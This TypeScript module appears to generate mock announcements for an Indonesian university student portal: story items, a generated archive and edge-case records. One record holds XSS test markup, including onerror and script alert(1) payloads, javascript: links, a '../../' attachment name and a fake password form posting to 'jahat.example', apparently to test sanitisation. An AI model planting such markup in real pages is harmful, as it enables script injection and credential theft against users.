import type { PengumumanWire } from '#generated/models/berita/pengumumanWire.zod.ts'
import type { Mahasiswa } from './mahasiswa-types.ts'
import { DAY_MS, fromTanggal, toIso } from './waktu.ts'

export const KATEGORI = [
  { idKategori: '1', nama: 'Akademik', penulis: 'Biro Akademik' },
  { idKategori: '2', nama: 'Keuangan', penulis: 'Biro Keuangan' },
  { idKategori: '3', nama: 'Kemahasiswaan', penulis: 'Biro Kemahasiswaan' },
  { idKategori: '4', nama: 'Perpustakaan', penulis: 'Perpustakaan' },
] as const

interface Isian {
  id: number
  kategori: number
  tanggal: string
  publish?: string
  judul: string
  ringkasan: string
  isi: string
  lampiran?: PengumumanWire['lampiran']
  isPenting?: boolean
}

const toPengumuman = ({
  id,
  kategori,
  tanggal,
  publish = tanggal,
  judul,
  ringkasan,
  isi,
  lampiran = [],
  isPenting = false,
}: Isian): PengumumanWire => {
  const { idKategori, nama, penulis } = KATEGORI[kategori] ?? KATEGORI[0]
  return {
    idPengumuman: String(id),
    judul,
    ringkasan,
    isi,
    tanggal,
    tanggalPublish: publish,
    tujuan: 'portalmhs',
    isPublish: 1,
    kategori: { idKategori, nama },
    penulis,
    gambar: null,
    lampiran,
    isPenting,
  }
}

/** The announcements of docs/story.md, newest first. */
const CERITA = [
  {
    id: 1041,
    kategori: 0,
    tanggal: '2026-10-22T09:00:00+07:00',
    publish: '2026-10-22T09:05:00+07:00',
    judul: 'Jadwal UTS 2026/2027 Ganjil telah terbit',
    ringkasan: 'Periksa ruang dan sesi Anda sebelum Senin, 26 Oktober.',
    isi: '<p>Jadwal Ujian Tengah Semester 2026/2027 Ganjil berlaku 26 Oktober sampai 6 November 2026.</p><p>Periksa ruang dan sesi Anda di menu <strong>Jadwal dan presensi</strong>. Kartu ujian dicetak mandiri.</p>',
    lampiran: [
      {
        nama: 'jadwal-uts-ganjil-2026-2027.pdf',
        url: 'https://gateway.example/media/061001/jadwal-uts-ganjil-2026-2027.pdf',
        ukuran: 248_310,
      },
    ],
    isPenting: true,
  },
  {
    id: 1040,
    kategori: 1,
    tanggal: '2026-10-21T13:30:00+07:00',
    judul: 'Pemeliharaan sistem pembayaran',
    ringkasan: 'Sabtu, 24 Oktober, 22.00–24.00 WIB.',
    isi: '<p>Sistem pembayaran dipelihara Sabtu, 24 Oktober 2026, pukul 22.00–24.00 WIB. Pembayaran yang sudah dibuat tetap berlaku.</p>',
  },
  {
    id: 1039,
    kategori: 2,
    tanggal: '2026-10-19T10:00:00+07:00',
    judul: 'Beasiswa Prestasi Akademik 2027 dibuka',
    ringkasan: 'IPK minimal 3,25. Berkas diterima sampai 13 November.',
    isi: '<p>Beasiswa Prestasi Akademik 2027 terbuka untuk mahasiswa semester 3 ke atas.</p><ul><li>IPK minimal 3,25</li><li>Berkas diterima sampai 13 November 2026 pukul 16.00 WIB</li></ul>',
  },
  {
    id: 1036,
    kategori: 3,
    tanggal: '2026-10-15T08:00:00+07:00',
    judul: 'Perubahan jam layanan perpustakaan',
    ringkasan: 'Buka sampai 20.00 WIB selama pekan ujian.',
    isi: '<p>Perpustakaan buka sampai pukul 20.00 WIB selama pekan ujian.</p>',
  },
].map(toPengumuman)

const TOPIK = [
  'Jadwal layanan',
  'Pengingat batas waktu',
  'Kegiatan mahasiswa',
  'Pembaruan sistem',
  'Penawaran pelatihan',
] as const
const ARSIP = 996
const ARSIP_STEP_MS = 2.5 * DAY_MS

/** Unusual content of campuses: HTML that does not come from the portal, a very long title, no date. */
const LUAR_BIASA: Readonly<Record<number, Partial<PengumumanWire>>> = {
  990: {
    judul: '<img src="x" onerror="alert(1)">Pengumuman dari sistem lama <b>(disalin)</b>',
    ringkasan: '<b onmouseover="alert(1)">Disalin</b> dari situs lama beserta tandanya.',
    isi: '<style>body{display:none}</style><script>alert(1)</script><img src="x" onerror="alert(1)"><iframe src="https://jahat.example"></iframe><form action="https://jahat.example"><input name="kata_sandi"><button>Masuk ulang</button></form><h2 style="position:fixed" onclick="alert(1)">Pemindahan arsip</h2><p>Arsip pindah ke <a href="javascript:alert(1)">tautan lama</a> dan <a href="https://arsip.arunika.example/2026">situs arsip</a>.</p><table><tr><th colspan="2">Jadwal pindah</th></tr><tr><td>Senin</td><td>08.00 WIB</td></tr></table>',
    lampiran: [
      { nama: '../../arsip lama.pdf', url: 'javascript:alert(1)', ukuran: 1200 },
      { nama: 'arsip-2026.pdf', url: 'https://gateway.example/media/061001/arsip-2026.pdf', ukuran: 1_048_576 },
    ],
  },
  988: {
    judul:
      'Perubahan kedua atas ketentuan pelaksanaan perkuliahan, praktikum, ujian, remedial, semester pendek, dan kegiatan kemahasiswaan bagi seluruh mahasiswa program sarjana dan diploma angkatan 2019 sampai dengan 2026',
    ringkasan: `Ketentuan${'pelaksanaan'.repeat(12)} berlaku sejak ditetapkan.`,
  },
  986: { tanggal: null, tanggalPublish: null, judul: 'Pengumuman tanpa tanggal' },
}

const toArsip = (nomor: number): PengumumanWire => ({
  ...toPengumuman({
    id: nomor,
    kategori: nomor % KATEGORI.length,
    tanggal: toIso(fromTanggal('2026-10-14', '08.00') - (ARSIP - nomor) * ARSIP_STEP_MS),
    judul: `${TOPIK[nomor % TOPIK.length] ?? TOPIK[0]} nomor ${nomor}`,
    ringkasan: `Pengumuman arsip nomor ${nomor}.`,
    isi: `<p>Isi pengumuman arsip nomor ${nomor}.</p>`,
  }),
  ...LUAR_BIASA[nomor],
})

const NEWEST = Math.max(...CERITA.map(({ idPengumuman }) => Number(idPengumuman)))

/** Creates an announcement that the campus publishes now, for all students. */
export const newPengumuman = (terbit: readonly PengumumanWire[], judul: string, now: number): PengumumanWire =>
  toPengumuman({
    id: NEWEST + terbit.length + 1,
    kategori: 0,
    tanggal: toIso(now),
    judul,
    ringkasan: judul,
    isi: `<p>${judul}</p>`,
  })

/** Returns the announcements of a student, newest first: those of the story, none, or 1,000 with an archive. */
export const pengumumanOf = (
  { pengumuman }: Pick<Mahasiswa, 'pengumuman'>,
  terbit: readonly PengumumanWire[] = [],
): PengumumanWire[] => {
  if (pengumuman === 'kosong') return []
  if (pengumuman === 'umum') return [...terbit, ...CERITA]
  return [...terbit, ...CERITA, ...Array.from({ length: ARSIP }, (_, index) => toArsip(ARSIP - index))]
}

/** Returns when the student read an announcement, or null. */
export const dibacaPada = (
  { baca }: Pick<Mahasiswa, 'baca'>,
  { idPengumuman, tanggalPublish }: PengumumanWire,
): string | null => {
  const satuan = baca.satuan[String(idPengumuman)]
  if (satuan !== undefined) return satuan
  return Number(idPengumuman) <= baca.sampai ? (tanggalPublish ?? null) : null
}
